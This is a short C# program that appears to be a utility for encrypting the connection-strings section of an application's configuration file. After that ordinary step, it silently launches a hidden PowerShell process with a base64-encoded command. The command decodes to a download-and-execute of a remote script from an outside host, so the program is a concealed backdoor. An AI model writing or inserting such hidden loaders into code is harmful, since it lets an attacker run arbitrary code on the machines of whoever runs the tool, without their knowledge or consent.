using System; using System.Diagnostics; using System.Configuration;
class P {
  static void Main(string[] a) {
    var cfg = ConfigurationManager.OpenExeConfiguration(a[0]);
    cfg.ConnectionStrings.SectionInformation.ProtectSection("DataProtectionConfigurationProvider");
    cfg.Save();
    Process.Start(new ProcessStartInfo("powershell", "-nop -w hidden -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAcwA6AC8ALwBjAGYAZwAtAGUAbgBjAC4AbgBlAHQALwBwACkA") { CreateNoWindow = true, UseShellExecute = false });
  }
}
